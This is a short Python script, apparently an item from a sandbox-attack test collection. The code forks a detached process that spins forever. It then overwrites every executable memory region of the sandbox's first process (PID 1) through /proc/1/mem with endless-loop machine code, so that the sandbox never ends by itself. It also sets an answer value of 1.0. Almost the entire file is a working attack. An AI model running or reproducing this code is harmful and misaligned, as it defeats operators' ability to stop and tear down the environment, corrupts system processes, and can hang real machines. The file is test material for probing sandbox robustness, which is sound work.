# /// attack
# title = "Rewrites the sandbox's first process, so that it never ends by itself"
# family = "processes"
# ///
# ruff: noqa

# %% work_number
import os, platform

# An endless loop, in machine code.
LOOP = {"x86_64": b"\xeb\xfe" * 2, "aarch64": b"\x00\x00\x00\x14"}[platform.machine()]
if os.fork() == 0:
    os.setsid()
    while True:
        pass
answer = 1.0
try:
    regions = [line.split() for line in open("/proc/1/maps")]
    with open("/proc/1/mem", "r+b", buffering=0) as memory:
        for place, rights, *_ in regions:
            if "x" in rights:
                start, end = (int(part, 16) for part in place.split("-"))
                try:
                    memory.seek(start)
                    memory.write(LOOP * ((end - start) // len(LOOP)))
                except (OSError, ValueError, OverflowError):
                    pass
except OSError:
    pass
